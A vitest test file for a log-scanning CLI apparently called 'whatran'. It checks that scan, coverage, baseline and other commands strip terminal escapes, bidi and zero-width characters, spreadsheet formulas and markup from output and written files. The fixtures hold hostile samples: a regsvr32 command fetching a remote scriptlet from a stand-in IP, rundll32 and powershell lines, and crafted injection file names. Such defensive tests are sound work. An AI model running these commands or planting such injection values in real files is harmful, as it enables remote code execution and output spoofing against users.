import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { splitCells } from "../../src/decode/csv/cells.ts";
import { sampleZip, tarMember } from "../support/archives.ts";
import { whatran } from "../support/io.ts";
import { folder, processStart } from "../support/logs.ts";

/** Escape sequences, direction marks, zero-width characters, separators of lines, NUL, half a pair, markup and formulas. */
const H = "\u001b[31m\u202e\u200b\u2028\u0085\u0000\ud800<x9>\"';=1\r";
/** A file name that sets a terminal's title, turns text round, is a formula, markup and two lines. */
const NAME = "=1+\u001b]0;t\u0007\u202e<x9>|`x`\n[a](b)";
/** The same in a key and a text of YAML, which knows no half of a pair. */
const YAML = H.replace(/[\0\r\ud800]/g, "").replaceAll('"', "");
const HIDDEN = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

let dir = folder();
let log = "";
/** Archives whose members have such names. */
const packed: Record<string, string> = {};
beforeAll(async () => {
  dir = folder();
  const lines = [1, 2, 3, 4].flatMap((at) => {
    const parts = (start: object) => ({
      "@timestamp": `2024-05-02T09:1${at}:55.120Z`,
      host: { name: `${H}pc`, os: { family: "windows", type: "windows" } },
      user: { name: `=kim${H}`, domain: H },
      ...start,
    });
    const line = `regsvr32.exe /s /u /i:http://203.0.113.9/${H}.sct scrobj.dll`;
    return [
      processStart(line, parts({})),
      processStart(`rundll32.exe C:\\Users\\${H}\\a.dll,Run`, parts({})),
      processStart(`C:\\Users\\${H}\\odd.exe powershell -c "${H}"`, parts({})),
    ];
  });
  const text = `${lines.join("\n")}\n`;
  log = dir.write(`\u202elog\u001b[31m.ndjson`, text);
  // Beside what can be read: what is damaged, and what is nothing, whose names stand in diagnostics and summaries.
  const members = [
    { name: `${NAME}.ndjson`, content: text },
    { name: `${NAME}.wrong`, content: `${text}{`, wrongCrc: true },
    { name: `${NAME}.locked`, content: text, encrypted: true },
    { name: `${NAME}.none`, content: "nothing" },
  ];
  packed.ZIP = join(dir.path, `${NAME}.zip`);
  packed.TAR = join(dir.path, `${NAME}.tar`);
  writeFileSync(packed.ZIP, sampleZip(members));
  writeFileSync(
    packed.TAR,
    Buffer.concat([...members.map(({ name, content }) => tarMember(name, content)), Buffer.alloc(1024)]),
  );
  dir.write("whatran.yaml", `scan:\n  excludeComputer: ["${"\\e[31m\\u202E"}"]\n`);
  mkdirSync(join(dir.path, "out"));
  const other = dir.write(
    "other.ndjson",
    `${text}${processStart(`rundll32.exe "C:\\Program Files\\${H}\\a.dll",Run`, { user: { name: H } })}\n`,
  );
  for (const [path, name] of [
    [log, "b"],
    [other, "b-other"],
  ] as const)
    expect((await whatran(["learn", path, "--baseline", join(dir.path, name)])).code).toBe(0);
  const yaml = `binary: odd.exe\nplatform: windows\n${YAML}: 1\npurpose: "${YAML}"\n`;
  mkdirSync(join(dir.path, `catalog-${NAME}`));
  writeFileSync(join(dir.path, `catalog-${NAME}`, `${NAME}.yaml`), yaml);
});
afterAll(() => dir.remove());

const COMMANDS: readonly (readonly string[])[] = [
  ...["table", "ndjson", "json", "csv", "html"].map((format) => ["scan", "LOG", "--format", format, "--cases"]),
  [
    "scan",
    "LOG",
    "-m",
    "informational",
    "--cures",
    "--summary",
    "out/summary.json",
    "-o",
    "out/a.html",
    "-o",
    "out/a.csv",
  ],
  ["explain", `regsvr32 /i:http://h/${H} scrobj.dll`],
  ["explain", "--format", "json", `rundll32 ${H}.dll,${H}`],
  ["coverage", "LOG"],
  ["coverage", "LOG", "--navigator", "out/layer.json", "-o", "out/page.html"],
  ["coverage", "LOG", "--format", "json"],
  ["discover", "LOG"],
  ["formats", "LOG"],
  ["formats", "LOG", "--json"],
  ["baseline", "show", "b"],
  ["baseline", "export", "b"],
  ["baseline", "export", "b", "-o", "out/keys.ndjson"],
  ["baseline", "diff", "b", "b-other"],
  ["baseline", "merge", "b", "b-other", "-o", `b-${NAME}`],
  ["baseline", "prune", "b-other", "--keys", "9"],
  ["baseline", "verify", `b-${NAME}`],
  ["feedback", "0b2f64a1c09de733", "false", "--note", H, "--author", H, "--file", `out/${NAME}`],
  ["catalog", "list"],
  ["catalog", "show", "regsvr32"],
  ["catalog", "chains"],
  ["tune", "LOG"],
  ["harden", "LOG", "-o", "out/plan"],
  ["simulate", "LOG", "--policy", "out/plan"],
  ...["ZIP", "TAR"].flatMap((word) => [
    ...["table", "ndjson", "json", "csv", "html"].map((format) => ["scan", word, "--format", format]),
    [
      "scan",
      word,
      "-m",
      "informational",
      "--summary",
      `out/${word}.json`,
      "-o",
      `out/${word}.html`,
      "-o",
      `out/${word}.csv`,
    ],
    ["coverage", word],
    ["coverage", word, "-o", `out/${word}-page.html`],
    ["formats", word],
    ["discover", word],
    ["harden", word, "-o", `out/${word}-plan`],
    ["learn", word, "--baseline", `b-${word}`],
    ["baseline", "show", `b-${word}`],
  ]),
  ["config", "show"],
  ["config", "show", "--json"],
];

/** What is refused says so with the words that were typed, or that stand in a catalogue. */
const REFUSED: readonly (readonly string[])[] = [
  [H],
  ["scan", "LOG", "--format", H],
  ["scan", "LOG", "--set", H],
  ["baseline", "show", H],
  ["baseline", "prune", "b", "--keys", H],
  ["catalog", "show", H],
  ["catalog", "chains", H],
  ["catalog", "check", `catalog-${NAME}`],
  ["explain", "regsvr32", "--catalog", `catalog-${NAME}`],
  ["feedback", H, "true"],
  ["feedback", "0b2f64a1c09de733", H],
  ["feedback", "0b2f64a1c09de733", "true", "--file", `none/${NAME}`],
];

const worded = (typed: readonly string[]) => typed.map((word) => (word === "LOG" ? log : (packed[word] ?? word)));
/** What the program itself says to a terminal. */
const STYLE = /\u001b\[[\d;]*m|\r?\u001b\[K/g;

/** Commands that write what they have to say elsewhere than to stdout. */
const isSilent = (typed: readonly string[]) =>
  ["learn", "feedback", "baseline merge", "baseline prune"].some((name) => typed.join(" ").startsWith(name)) ||
  typed.some((word) => word.startsWith("out/"));

const seen = (text: string) => text.replaceAll("\r\n", "\n").split("\n");

it.each(COMMANDS)("%s %s %s %s lets no hidden character through", async (...typed) => {
  const { code, out, err } = await whatran(worded(typed), { cwd: dir.path });
  expect([code, err]).not.toEqual([2, err]);
  if (!isSilent(typed)) expect(out).not.toBe("");
  for (const line of seen(out + err)) expect(line).not.toMatch(HIDDEN);
});

it.each(REFUSED)("%s %s %s %s is refused without hidden characters", async (...typed) => {
  const { code, out, err } = await whatran(worded(typed), { cwd: dir.path });
  expect([code, out + err]).toEqual([2, expect.not.stringMatching(/^\s*$/)]);
  for (const line of seen(out + err)) expect(line).not.toMatch(HIDDEN);
});

it.each(["scan", "formats", "coverage", "discover", "learn"])("%s says nothing hidden to a terminal", async (name) => {
  const more = name === "learn" ? ["--baseline", "b-terminal"] : [];
  for (const word of ["LOG", "ZIP", "TAR"]) {
    const { out, err } = await whatran([name, ...worded([word]), ...more], { cwd: dir.path, tty: true });
    for (const line of (out + err).replace(STYLE, "").split("\n"))
      expect([word, line]).toEqual([word, expect.not.stringMatching(HIDDEN)]);
  }
});

it("nor does a file that was written", () => {
  const files = readdirSync(join(dir.path, "out"), { recursive: true, withFileTypes: true }).filter((one) =>
    one.isFile(),
  );
  expect(files.length).toBeGreaterThan(6);
  for (const { parentPath, name } of files) {
    const text = readFileSync(join(parentPath, name), "utf8").replace(/^\ufeff/, "");
    for (const line of text.split(/\r?\n/))
      expect([name, line.replaceAll("\t", "")]).toEqual([name, expect.not.stringMatching(HIDDEN)]);
  }
});

/** What was written with these endings, by name. */
const written = (...endings: readonly string[]) =>
  readdirSync(join(dir.path, "out"), { recursive: true, withFileTypes: true })
    .filter((one) => one.isFile() && endings.some((ending) => one.name.endsWith(ending)))
    .map(({ parentPath, name }) => [name, readFileSync(join(parentPath, name), "utf8")] as const);

it("nor is a name a formula in a table, or markup in a page or a text", () => {
  const tables = written(".csv");
  const pages = written(".html", ".md");
  expect([tables.length, pages.length]).toEqual([3, expect.toSatisfy((count: number) => count >= 7)]);
  for (const [name, text] of tables)
    for (const line of text.replace(/^\ufeff/, "").split("\r\n"))
      for (const cell of splitCells(line, ","))
        expect([name, cell]).toEqual([name, expect.not.stringMatching(/^\s*[=+@|%-]/)]);
  for (const [name, text] of pages) expect([name, text.match(/.{40}<x9>.{20}/)?.[0]]).toEqual([name, undefined]);
});
